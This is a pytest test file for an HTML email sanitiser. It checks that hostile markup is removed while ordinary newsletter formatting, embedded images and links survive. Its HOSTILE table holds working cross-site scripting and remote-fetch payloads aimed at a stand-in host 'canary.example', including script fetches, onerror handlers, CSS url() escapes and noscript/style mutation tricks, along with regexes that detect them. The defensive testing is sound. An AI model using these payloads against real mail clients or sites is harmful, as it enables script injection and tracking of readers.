"""What the sanitiser lets pass: nothing that runs, fetches or sends, and everything that is only formatting."""

import re
import time

import pytest

from plugins.mail_monitor.letters import File
from plugins.mail_monitor.safe_html import DEEPEST, MOST_PICTURES, make_safe, sanitise
from plugins.mail_monitor.safe_styles import safe_style
from tests.plugins.mail_monitor.letters import PIXEL, html_mail

HOST = "canary.example"
# Each would run, fetch or send something in some mail program; none may name the host in what comes out.
HOSTILE = {
    "script": f"<script>fetch('https://{HOST}/s')</script>",
    "handler": f"<img src=x onerror=\"fetch('https://{HOST}/e')\">",
    "base": f'<base href="https://{HOST}/"><img src="a.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/m">',
    "form": f'<form action="https://{HOST}/f"><input name="a"><button formaction="https://{HOST}/b">Go</button></form>',
    "style element": f"<style>@import 'https://{HOST}/c';p{{background:url(https://{HOST}/u)}}</style>",
    "css url": f'<p style="background:url(https://{HOST}/u)">a</p>',
    "css escape": f'<p style="background:\\75\\72\\6c(https://{HOST}/u)">a</p>',
    "css image-set": f"<p style=\"background-image:image-set('https://{HOST}/u' 1x)\">a</p>",
    "css comment": f'<p style="background:u/**/rl(https://{HOST}/u)">a</p>',
    "srcset": f'<img srcset="https://{HOST}/s 2x, //{HOST}/t 3x">',
    "picture": f'<picture><source srcset="https://{HOST}/p"><img alt="a"></picture>',
    "without a scheme": f'<img src="//{HOST}/n">',
    "backslashes": f'<img src="\\\\{HOST}\\n"><a href="/\\{HOST}">a</a>',
    "tab in scheme": f'<img src="ht\ttps://{HOST}/t">',
    "background": f'<table background="https://{HOST}/b"><tr><td background="//{HOST}/t">a</td></tr></table>',
    "body": f'<body background="https://{HOST}/b" onload="fetch(1)">a</body>',
    "svg": f'<svg><image href="https://{HOST}/s"/><feImage href="https://{HOST}/f"/><animate onbegin="x"/></svg>',
    "math": f'<math><mtext><img src="https://{HOST}/m"></mtext></math>',
    "iframe": f'<iframe src="https://{HOST}/i"></iframe><object data="https://{HOST}/o"></object>',
    "media": f'<video poster="https://{HOST}/p" src="https://{HOST}/v"></video><audio src="https://{HOST}/a"></audio>',
    "link": f'<link rel="stylesheet" href="https://{HOST}/l"><link rel="prefetch" href="https://{HOST}/p">',
    "mutation": f'<noscript><p title="</noscript><img src=https://{HOST}/x onerror=alert(1)>">',
    "mutation in style": f'<math><style><!--</style><img src="https://{HOST}/x" onerror="alert(1)">--></style></math>',
    "script address": "<a href=\"java\nscript:fetch('https://canary.example/j')\">a</a>",
    "data page": f'<a href="data:text/html,<script src=https://{HOST}/d></script>">a</a>',
    "svg picture": '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hostile_names_its_host(name: str) -> None:
    safe = sanitise(f"<p>Words</p>{HOSTILE[name]}")
    assert HOST not in safe.html
    html = safe.html.lower()
    assert not re.search(r"<(script|style|svg|math|form|input|iframe|object|base|meta|link|video)\b", html)
    assert not re.search(r"\son\w+\s*=|javascript:|url\(|srcset|formaction|svg\+xml", html)
    assert "Words" in safe.html


def test_no_attribute_lets_a_page_be_taken_over() -> None:
    safe = sanitise(
        '<p id="a" name="b" class="c" data-x="d" hx-get="/e" style="position:fixed;z-index:9;color:red">w</p>'
    )
    assert safe.html == '<p style="color:red">w</p>'


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: #123456; FONT-SIZE: 12px", "color:#123456;font-size:12px"),
        ("background: rgb(1, 2, 3)", "background:rgb(1, 2, 3)"),
        ("width:100%;position:absolute", "width:100%"),
        ("color:expression(alert(1))", ""),
        ("font-family:'a", ""),
        ("background:var(--x)", ""),
        ("margin:calc(1px)", ""),
        ("behavior:url(x.htc)", ""),
        ("color:red;/*;*/background:blue", "color:red"),
    ],
)
def test_styles_keep_what_is_harmless(style: str, kept: str) -> None:
    assert safe_style(style) == kept


def test_remote_pictures_are_counted_and_put_away() -> None:
    safe = sanitise(
        f'<img src="http://{HOST}/a.png" alt="A"><img src="//{HOST}/t.gif" width="1" height="1">'
        f'<td><table background="https://{HOST}/b"><tr><td>a</td></tr></table></td>'
    )
    assert (safe.blocked, safe.trackers) == (3, 1)
    assert HOST not in safe.html
    assert 'alt="A"' in safe.html
    # Shown on request, and then never unencrypted.
    assert f'src="https://{HOST}/a.png"' in safe.with_pictures
    assert f'src="https://{HOST}/t.gif"' in safe.with_pictures
    assert "background" not in safe.with_pictures


def test_pictures_that_are_parts_of_the_mail_are_put_in() -> None:
    files = (
        File("a.png", "image/png", PIXEL, "Logo@x"),
        File("evil.png", "image/png", b"<svg onload=alert(1)>", "evil"),
        File("unused.png", "image/png", PIXEL, "unused"),
    )
    safe = sanitise('<img src="cid:logo%40x"><img src="cid:evil"><img src="cid:nowhere">', files)
    assert safe.html.count("data:image/png;base64,") == 1
    assert safe.used == frozenset({"logo@x"})
    assert (safe.blocked, safe.with_pictures) == (0, "")


def test_embedded_pictures_have_a_limit_in_all() -> None:
    half = PIXEL + b"\0" * (MOST_PICTURES // 2)
    safe = sanitise('<img src="cid:a"><img src="cid:a"><img src="cid:a">', (File("a.png", "image/png", half, "a"),))
    assert safe.html.count("data:image/png") == 1


def test_links_open_elsewhere_and_misleading_ones_are_told() -> None:
    safe = sanitise(
        '<a href="https://evil.example/x">https://bank.example/login</a><a href="https://www.shop.example/">shop.example</a>'
        '<a href="mailto:a@b.example">write</a><a href="javascript:alert(1)">no</a><a href="/local">no</a>'
    )
    assert safe.odd_links == ({"says": "https://bank.example/login", "leads_to": "evil.example"},)
    assert safe.html.count("href=") == 3
    assert safe.html.count('rel="noopener noreferrer"') == 5
    assert safe.html.count('target="_blank"') == 5


@pytest.mark.parametrize(
    ("html", "said"),
    [
        ("<div>" * (DEEPEST + 1), "nested deeper"),
        ("</x><div>" * (DEEPEST + 1), "nested deeper"),
        ("<div><!--</div>-->" * (DEEPEST + 1), "nested deeper"),
        ("<p>" + "a" * 1024 * 1024, "limit of 1 MB"),
        ("  ", "no formatted text"),
    ],
)
def test_what_would_be_slow_is_refused_before_it_is_read(html: str, said: str) -> None:
    begun = time.monotonic()
    assert said in sanitise(html).refusal
    assert time.monotonic() - begun < 1


def test_an_honest_newsletter_keeps_its_looks() -> None:
    html = (
        '<table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td align="center" style="padding:12px;color:#333">'
        '<h1>News</h1><p style="font-family:Arial,sans-serif">Hello <b>you</b></p><ul><li>One</li></ul></td></tr>'
        "</table>"
    )
    safe = sanitise(html).html
    for part in ('width="600"', 'bgcolor="#ffffff"', "padding:12px;color:#333", "<h1>News</h1>", "<li>One</li>"):
        assert part in safe


def test_a_whole_mail_is_made_safe_with_its_own_pictures() -> None:
    raw = html_mail('<p>Hi <img src="cid:logo"></p>', pictures={"logo": PIXEL})
    safe, broken = make_safe([raw, b"no mail at all"])
    assert "data:image/png;base64," in safe.html
    assert safe.height == "middle"
    assert broken.refusal
